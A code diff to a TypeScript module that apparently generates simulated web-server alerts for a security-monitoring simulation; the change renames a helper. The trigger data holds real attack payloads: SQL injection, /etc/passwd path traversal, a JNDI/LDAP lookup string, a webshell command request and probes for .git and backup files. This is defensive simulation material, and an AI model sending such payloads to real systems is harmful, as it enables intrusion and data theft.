@@ -6,7 +6,7 @@ import { strangers } from './linux.ts';
 
 const officeAddress = ({ device, random }: Acted) => `10.${device.site.network}.20.${random.int(40, 75)}`;
 
-const asks = triggersOf<Omit<WebRequest, 'from'>>('web', (scene, request) =>
+const requests = triggersOf<Omit<WebRequest, 'from'>>('web', (scene, request) =>
   webRequest(scene, { from: scene.random.pick(strangers), ...request(scene) }),
 )({ roles: ['webServer'], hours: 'any' });
 
@@ -52,7 +52,7 @@ export const perimeterTriggers: readonly AlertTrigger[] = [
       version: scene.random.pick(['1.0', '1.1']),
     }),
   ),
-  asks('scanner-user-agent', 'low', 26, ({ random }) => ({
+  requests('scanner-user-agent', 'low', 26, ({ random }) => ({
     url: random.pick(guessedPaths),
     status: 301,
     agent: random.pick(scanners),
@@ -82,11 +82,11 @@ export const perimeterTriggers: readonly AlertTrigger[] = [
       ]),
     }),
   ),
-  asks('sql-injection', 'medium', 12, ({ random }) => ({
+  requests('sql-injection', 'medium', 12, ({ random }) => ({
     url: `/search?q=${random.pick(['seal', 'pump', 'kit'])}%27%20UNION%20SELECT%20null,version()--`,
     status: random.pick([400, 403, 500]),
   })),
-  asks('path-traversal', 'medium', 10, ({ random }) => ({
+  requests('path-traversal', 'medium', 10, ({ random }) => ({
     url: random.pick(['/static/../../../../etc/passwd', '/download?file=../../../../etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd']),
     status: 400,
   })),
@@ -127,17 +127,21 @@ export const perimeterTriggers: readonly AlertTrigger[] = [
       issuer: 'CN=localhost',
     }),
   ),
-  asks('jndi-lookup', 'high', 8, ({ random }) => ({
+  requests('jndi-lookup', 'high', 8, ({ random }) => ({
     url: `/?id=$%7Bjndi:ldap://203.0.113.${random.int(30, 60)}:1389/a%7D`,
     status: 200,
   })),
-  asks('sensitive-file-served', 'high', 2, ({ random }) => ({
+  requests('sensitive-file-served', 'high', 2, ({ random }) => ({
     url: random.pick(['/.git/HEAD', '/db-backup.zip']),
     status: 200,
     bytes: 23,
   })),
-  asks('webshell-request', 'high', 3, () => ({ url: '/uploads/2026/logo.php?cmd=whoami', status: 200, bytes: 9 })),
-  asks('path-traversal-answered', 'high', 3, () => ({ url: '/export?name=../../../../etc/passwd', status: 200, bytes: 1_842 })),
+  requests('webshell-request', 'high', 3, () => ({ url: '/uploads/2026/logo.php?cmd=whoami', status: 200, bytes: 9 })),
+  requests('path-traversal-answered', 'high', 3, () => ({
+    url: '/export?name=../../../../etc/passwd',
+    status: 200,
+    bytes: 1_842,
+  })),
   trigger('network/remote-service-open-to-internet', 'high', 6, { roles: ['firewall'], hours: 'any' }, (scene) =>
     firewallVerdict(scene, {
       action: 'accept',
